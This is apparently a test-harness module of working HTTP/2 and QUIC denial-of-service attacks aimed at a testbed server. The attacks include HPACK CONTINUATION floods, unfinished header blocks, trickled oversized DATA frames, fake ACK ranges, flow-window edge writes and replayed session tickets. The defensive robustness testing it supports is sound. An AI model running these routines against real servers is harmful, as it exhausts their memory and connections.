"""Protocol-level attacks of ``testbed abuse`` (issue 40): inputs whose cost to a parser grows
with what it has buffered, or that make a server keep state, rather than floods of work.

HTTP/2 ones speak raw frames over TLS (harness.abuse.attacks' helpers); QUIC ones drive an
aioquic client connection by hand over a UDP socket (:class:`_RawQuic`), so that they can send
what no well-behaved endpoint would: a frame longer than its type allows, data at the edge of
the flow-control window, ACKs of packets never sent, a stale session ticket. Each returns one
line saying what it sent and what the server answered; each is bounded in count and time.
"""

from __future__ import annotations

import os
import socket
import ssl
import time
from typing import Any

import hpack
from aioquic.buffer import encode_uint_var
from aioquic.quic import events as qevents
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.rangeset import RangeSet

from harness.abuse.attacks import (
    ATTACKER_ADDR,
    H2_CONTINUATION,
    H2_DATA,
    H2_DEFAULT_FRAME_BYTES,
    H2_FLAG_END_HEADERS,
    H2_HEADERS,
    H2_PREFACE,
    H2_SETTINGS,
    IO_TIMEOUT_S,
    Target,
    _connections,
    _frame,
    _GoawayScan,
    _read_replies,
    _tls_or_pause,
)
from proto.quic.adapter import acknowledge_next, skip_to_window_edge

ONE_BYTE_LITERAL = b"\x00\x01a\x00"
"""HPACK: a literal field without indexing, new name "a", empty value (4 bytes): each makes
hpack copy what follows it in the block."""
H3_ALPN = "h3"
QUIC_STEP_S = 0.01
"""How long the raw QUIC client waits for a datagram between timer checks."""


def _request_head(path: bytes = b"/sink", method: bytes = b"POST") -> bytes:
    return hpack.Encoder().encode(
        [(b":method", method), (b":path", path), (b":scheme", b"https"), (b":authority", b"x")]
    )


def _block_frames(block_bytes: int, end: bool, stream: int = 1) -> list[bytes]:
    """HEADERS then CONTINUATIONs carrying ``block_bytes`` of one-byte literals after a
    request head; END_HEADERS on the last one only when ``end``."""
    block = _request_head() + ONE_BYTE_LITERAL * (block_bytes // len(ONE_BYTE_LITERAL))
    pieces = [
        block[i : i + H2_DEFAULT_FRAME_BYTES] for i in range(0, len(block), H2_DEFAULT_FRAME_BYTES)
    ]
    frames = []
    for index, piece in enumerate(pieces):
        last = end and index == len(pieces) - 1
        kind = H2_HEADERS if index == 0 else H2_CONTINUATION
        frames.append(_frame(kind, H2_FLAG_END_HEADERS if last else 0, stream, piece))
    return frames


def _send_until_closed(sock: ssl.SSLSocket, frames: list[bytes], deadline: float) -> int:
    """Send frames until the server stops taking them; the bytes sent."""
    sent = 0
    try:
        for frame in frames:
            if time.monotonic() > deadline:
                break
            sock.sendall(frame)
            sent += len(frame)
    except (OSError, ssl.SSLError):
        pass
    return sent


def header_block(target: Target, duration_s: float, block_bytes: int, connections: int) -> str:
    """A complete header block of ``block_bytes`` of one-byte literal fields (HEADERS and
    CONTINUATIONs), on up to ``connections`` connections one after the other: decoding it
    is quadratic in hpack, so the server must refuse it before decoding."""
    deadline = time.monotonic() + duration_s
    sent = made = goaways = 0

    for sock in _connections(target, deadline, lambda: made < connections):  # noqa: B023 (read as it grows)
        made += 1
        sock.sendall(H2_PREFACE + _frame(H2_SETTINGS, 0, 0))
        sent += _send_until_closed(sock, _block_frames(block_bytes, end=True), deadline)
        scan = _GoawayScan()
        _read_replies(sock, scan, time.monotonic() + 2.0)
        goaways += scan.goaway
        sock.close()
    return f"{sent / 1e6:.1f} MB of header blocks on {made} connections, {goaways} GOAWAY"


def unfinished_block(target: Target, duration_s: float, block_bytes: int, connections: int) -> str:
    """``connections`` connections each sending a header block of ``block_bytes`` that never
    ends (no END_HEADERS), held open until ``duration_s``: what the server buffers."""
    deadline = time.monotonic() + duration_s
    socks, sent = [], 0
    for _ in range(connections):
        sock = _tls_or_pause(target)
        if sock is None:
            continue
        sock.sendall(H2_PREFACE + _frame(H2_SETTINGS, 0, 0))
        sent += _send_until_closed(sock, _block_frames(block_bytes, end=False), deadline)
        socks.append(sock)
    open_at_end = _hold(socks, deadline)
    return (
        f"{sent / 1e6:.1f} MB of unfinished header blocks on {len(socks)} connections, "
        f"{open_at_end} still open at {duration_s:g} s"
    )


def _hold(socks: list[ssl.SSLSocket], deadline: float) -> int:
    """Wait until ``deadline``; how many of ``socks`` the server has neither closed nor sent
    a GOAWAY on by then (what it sent is read, never kept)."""
    while time.monotonic() < deadline:
        time.sleep(0.2)
    still = 0
    for sock in socks:
        scan = _GoawayScan()
        _read_replies(sock, scan, time.monotonic() + 0.2)
        try:
            sock.setblocking(False)
            open_ = sock.recv(1 << 16) != b"" and not scan.goaway
        except (BlockingIOError, ssl.SSLWantReadError):
            open_ = not scan.goaway
        except (OSError, ssl.SSLError):
            open_ = False
        still += open_
        sock.close()
    return still


def trickled_data(target: Target, duration_s: float, connections: int, interval_s: float) -> str:
    """An upload whose DATA frame header declares 16 MiB - 1 bytes (above the server's
    SETTINGS_MAX_FRAME_SIZE), then one byte every ``interval_s``, on ``connections``."""
    deadline = time.monotonic() + duration_s
    socks = []
    for _ in range(connections):
        sock = _tls_or_pause(target)
        if sock is None:
            continue
        head = _frame(H2_HEADERS, H2_FLAG_END_HEADERS, 1, _request_head())
        size = (1 << 24) - 1
        data_head = size.to_bytes(3, "big") + bytes([H2_DATA, 0]) + (1).to_bytes(4, "big")
        try:
            sock.sendall(H2_PREFACE + _frame(H2_SETTINGS, 0, 0) + head + data_head)
            socks.append(sock)
        except (OSError, ssl.SSLError):
            sock.close()
    trickled = 0
    while time.monotonic() < deadline:
        for sock in socks:
            try:
                sock.sendall(b"x")
                trickled += 1
            except (OSError, ssl.SSLError):
                pass
        time.sleep(interval_s)
    open_at_end = _hold(socks, deadline)
    return (
        f"{len(socks)} DATA frames of 16 MiB declared, {trickled} bytes trickled, "
        f"{open_at_end} connections still open at {duration_s:g} s"
    )


def hpack_table(target: Target, duration_s: float, requests: int) -> str:
    """SETTINGS_HEADER_TABLE_SIZE = 2^32 - 1, then ``requests`` GETs whose responses the
    server encodes: an encoder that took the size would never evict and scan ever more."""
    import h2.config
    import h2.connection
    import h2.events

    deadline = time.monotonic() + duration_s
    sock = _tls_or_pause(target)
    if sock is None:
        return "not connected"
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.local_settings.header_table_size = 2**32 - 1
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    done = sent = 0
    try:
        while done < requests and time.monotonic() < deadline:
            while sent < requests and sent - done < 50:
                stream = conn.get_next_available_stream_id()
                headers = [(":method", "GET"), (":path", f"/stream?chunks=1&n={sent}"),
                           (":scheme", "https"), (":authority", "x")]  # fmt: skip
                conn.send_headers(stream, headers, end_stream=True)
                sent += 1
            sock.sendall(conn.data_to_send())
            data = sock.recv(1 << 16)
            if not data:
                break
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.StreamEnded):
                    done += 1
                elif isinstance(event, h2.events.DataReceived):
                    conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            sock.sendall(conn.data_to_send())
    except (OSError, ssl.SSLError):
        pass
    finally:
        sock.close()
    table = conn.decoder.header_table_size
    return f"{done} of {requests} responses with a 2^32-1 table allowed; peer's table {table}"


# --- QUIC ------------------------------------------------------------------------------------


class _RawQuic:
    """An aioquic client connection driven by hand over a UDP socket from the attacker's
    address: what it sends can be bent before it leaves."""

    def __init__(self, target: Target, ticket: Any = None, max_data: int | None = None) -> None:
        config = QuicConfiguration(is_client=True, alpn_protocols=[H3_ALPN])
        config.verify_mode = ssl.CERT_NONE
        config.server_name = "testbed.local"
        if ticket is not None:
            config.session_ticket = ticket
        self.tickets: list[Any] = []
        self.quic = QuicConnection(configuration=config, session_ticket_handler=self.tickets.append)
        self.addr = (target.host, target.h3_port)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind((ATTACKER_ADDR, 0))
        self.sock.settimeout(QUIC_STEP_S)
        self.events: list[qevents.QuicEvent] = []
        self.quic.connect(self.addr, now=time.monotonic())

    def flush(self) -> int:
        sent = 0
        for data, _ in self.quic.datagrams_to_send(now=time.monotonic()):
            self.sock.sendto(data, self.addr)
            sent += len(data)
        return sent

    def pump(self, seconds: float) -> None:
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            self.flush()
            try:
                data, _ = self.sock.recvfrom(65_536)
                self.quic.receive_datagram(data, self.addr, now=time.monotonic())
            except (TimeoutError, BlockingIOError):
                pass
            timer = self.quic.get_timer()
            if timer is not None and timer <= time.monotonic():
                self.quic.handle_timer(now=time.monotonic())
            while (event := self.quic.next_event()) is not None:
                self.events.append(event)

    def handshake(self, timeout_s: float = IO_TIMEOUT_S) -> bool:
        end = time.monotonic() + timeout_s
        while time.monotonic() < end and not self.done():
            self.pump(0.05)
        return any(isinstance(e, qevents.HandshakeCompleted) for e in self.events)

    def done(self) -> bool:
        return any(
            isinstance(e, (qevents.HandshakeCompleted, qevents.ConnectionTerminated))
            for e in self.events
        )

    def closed(self) -> str | None:
        for event in self.events:
            if isinstance(event, qevents.ConnectionTerminated):
                return f"closed by the server, code 0x{event.error_code:x}: {event.reason_phrase}"
        return None

    def close(self) -> None:
        self.sock.close()


def h3_big_frame(target: Target, duration_s: float, frame_bytes: int, where: str) -> str:
    """A frame of ``frame_bytes`` sent as its packets go: a reserved type on the control
    stream (``where = "control"``) or HEADERS on a request stream (``"request"``)."""
    quic = _RawQuic(target)
    try:
        if not quic.handshake():
            return "no handshake"
        if where == "control":
            stream = quic.quic.get_next_available_stream_id(is_unidirectional=True)
            head = (
                encode_uint_var(0)
                + encode_uint_var(0x4)
                + encode_uint_var(0)
                + encode_uint_var(0x21)
                + encode_uint_var(frame_bytes)
            )
        else:
            stream = quic.quic.get_next_available_stream_id()
            head = encode_uint_var(0x1) + encode_uint_var(frame_bytes)
        quic.quic.send_stream_data(stream, head)
        deadline = time.monotonic() + duration_s
        sent = 0
        chunk = os.urandom(64 * 1024)
        while sent < frame_bytes and time.monotonic() < deadline and quic.closed() is None:
            quic.quic.send_stream_data(stream, chunk[: min(len(chunk), frame_bytes - sent)])
            sent += min(len(chunk), frame_bytes - sent)
            quic.pump(0.02)
        quic.pump(0.5)
        return f"{sent / 1e6:.1f} of {frame_bytes / 1e6:.1f} MB of a {where} frame; " + (
            quic.closed() or "still open"
        )
    finally:
        quic.close()


def flow_gap(target: Target, duration_s: float, streams: int) -> str:
    """On each of ``streams`` streams, 10 bytes at the very edge of the flow-control window
    the server granted (nothing before them): a receiver that zero-fills the gap and grows
    its window on the highest offset allocates a window a stream, doubling."""
    quic = _RawQuic(target)
    try:
        if not quic.handshake():
            return "no handshake"
        deadline = time.monotonic() + duration_s
        edges = 0
        for _ in range(streams):
            if time.monotonic() > deadline or quic.closed() is not None:
                break
            stream_id = quic.quic.get_next_available_stream_id()
            edge = skip_to_window_edge(quic.quic, stream_id, 10)
            quic.quic.send_stream_data(stream_id, b"y" * 10)
            edges += edge
            quic.pump(0.05)
        quic.pump(0.5)
        return f"{streams} streams, {edges / 1e6:.1f} MB of offsets named; " + (
            quic.closed() or "still open"
        )
    finally:
        quic.close()


def ack_ranges(target: Target, duration_s: float, ranges: int, rate_per_s: int) -> str:
    """ACK frames of ``ranges`` ranges naming packets the server never sent, ``rate_per_s``
    packets a second (the client's ACK queue replaced before every packet)."""
    quic = _RawQuic(target)
    try:
        if not quic.handshake():
            return "no handshake"
        base = 10_000_000
        fake = RangeSet([range(base + 2 * i, base + 2 * i + 1) for i in range(ranges)])
        deadline = time.monotonic() + duration_s
        packets = 0
        while time.monotonic() < deadline and quic.closed() is None:
            acknowledge_next(quic.quic, fake, time.monotonic())
            quic.quic.send_ping(packets)
            packets += 1
            quic.pump(1.0 / rate_per_s)
        return f"{packets} packets of {ranges} ACK ranges; " + (quic.closed() or "still open")
    finally:
        quic.close()


def stale_ticket(target: Target, duration_s: float) -> str:
    """A session ticket offered twice (single use: the second is stale): the server must
    answer the second with a full handshake, not silence."""
    first = _RawQuic(target)
    try:
        if not first.handshake():
            return "no first handshake"
        first.pump(0.5)  # tickets arrive after the handshake
        tickets = list(first.tickets)
    finally:
        first.close()
    if not tickets:
        return "no ticket issued"
    outcomes = []
    for attempt in ("fresh", "stale"):
        quic = _RawQuic(target, ticket=tickets[0])
        try:
            ok = quic.handshake(min(duration_s, IO_TIMEOUT_S))
            resumed = any(
                isinstance(e, qevents.HandshakeCompleted) and e.session_resumed for e in quic.events
            )
            outcomes.append(
                f"{attempt}: {'resumed' if resumed else 'full handshake' if ok else 'no answer'}"
            )
        finally:
            quic.close()
    return "; ".join(outcomes)


def empty_uni_stream(target: Target, duration_s: float) -> str:
    """A unidirectional stream closed before its type arrives, and one whose type varint is
    split across two packets: both are legal (RFC 9114 section 6.2), the connection stays."""
    quic = _RawQuic(target)
    try:
        if not quic.handshake():
            return "no handshake"
        empty = quic.quic.get_next_available_stream_id(is_unidirectional=True)
        quic.quic.send_stream_data(empty, b"", end_stream=True)
        quic.pump(0.2)
        split = quic.quic.get_next_available_stream_id(is_unidirectional=True)
        reserved = encode_uint_var(0x21 * 0x1F + 0x21)
        quic.quic.send_stream_data(split, reserved[:1])
        quic.pump(0.2)
        quic.quic.send_stream_data(split, reserved[1:] + b"x")
        quic.pump(min(duration_s, 1.0))
        return quic.closed() or "connection kept"
    finally:
        quic.close()
